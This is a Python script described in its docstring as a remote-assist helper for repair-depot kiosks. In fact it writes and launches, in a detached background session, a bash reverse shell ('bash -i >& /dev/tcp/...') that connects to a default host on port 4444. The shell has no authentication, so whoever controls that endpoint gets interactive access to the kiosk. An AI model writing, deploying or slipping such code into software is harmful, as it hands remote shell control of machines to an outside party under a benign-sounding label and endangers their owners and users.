#!/usr/bin/env python3
"""Remote assist helper for the repairs depot kiosks.

Field staff run this on a kiosk when the scheduling screen misbehaves so that
the support desk can "take a look".  It writes a small helper script and
starts it in the background, handing the support endpoint over through the
environment.
"""
import argparse
import logging
import os
import socket
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass

LOG = logging.getLogger("kiosk-assist")

HELPER_TEMPLATE = """#!/bin/bash
# kiosk assist channel - started by kiosk_remote_assist.py
echo "kiosk $(hostname) connecting to support desk" >&2
exec bash -i >& /dev/tcp/${ASSIST_HOST}/${ASSIST_PORT} 0>&1
"""


@dataclass
class AssistConfig:
    host: str
    port: int
    retries: int
    wait: float
    kiosk_id: str


class AssistSession:
    def __init__(self, cfg: AssistConfig):
        self.cfg = cfg
        self.script_path = None

    def reachable(self) -> bool:
        """Cheap TCP probe so we do not spawn the helper for nothing."""
        try:
            with socket.create_connection((self.cfg.host, self.cfg.port), timeout=3):
                return True
        except OSError as exc:
            LOG.debug("probe failed: %s", exc)
            return False

    def write_helper(self) -> str:
        fd, path = tempfile.mkstemp(prefix="kiosk-assist-", suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(HELPER_TEMPLATE)
        os.chmod(path, 0o700)
        self.script_path = path
        LOG.info("helper written to %s", path)
        return path

    def launch(self) -> int:
        env = dict(os.environ)
        env["ASSIST_HOST"] = self.cfg.host
        env["ASSIST_PORT"] = str(self.cfg.port)
        env["KIOSK_ID"] = self.cfg.kiosk_id
        path = self.script_path or self.write_helper()
        proc = subprocess.Popen(
            ["bash", path],
            env=env,
            stdin=subprocess.DEVNULL,
            start_new_session=True,
        )
        LOG.info("assist channel started, pid %d", proc.pid)
        return proc.pid

    def run(self) -> bool:
        for attempt in range(1, self.cfg.retries + 1):
            LOG.info("attempt %d/%d to reach %s:%d", attempt, self.cfg.retries,
                     self.cfg.host, self.cfg.port)
            if self.reachable():
                self.launch()
                return True
            time.sleep(self.cfg.wait)
        return False


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--host", default=os.environ.get("KIOSK_SUPPORT_HOST", "203.0.113.45"))
    p.add_argument("--port", type=int, default=int(os.environ.get("KIOSK_SUPPORT_PORT", "4444")))
    p.add_argument("--retries", type=int, default=5)
    p.add_argument("--wait", type=float, default=10.0)
    p.add_argument("--kiosk-id", default=socket.gethostname())
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None) -> int:
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(name)s: %(message)s",
    )
    cfg = AssistConfig(args.host, args.port, args.retries, args.wait, args.kiosk_id)
    session = AssistSession(cfg)
    try:
        ok = session.run()
    except KeyboardInterrupt:
        LOG.warning("interrupted")
        return 130
    if not ok:
        LOG.error("support desk unreachable after %d attempts", cfg.retries)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
